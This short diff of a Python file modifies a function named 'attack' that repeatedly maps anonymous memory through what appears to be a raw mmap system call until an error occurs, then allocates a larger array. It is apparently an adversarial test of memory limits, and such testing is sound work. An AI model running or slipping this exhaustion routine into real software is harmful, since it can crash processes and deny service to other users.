@@ -20,7 +20,7 @@ def attack(x, w):
         while True:
             call(9, 0, 1 << 20, 3, 0x22, -1, 0)
     except OSError:
-        np.ones(1 << 20)
+        np.ones(1 << 23)  # more than what is mapped ahead of it, which is its own
 
 
 def attend(x, w):
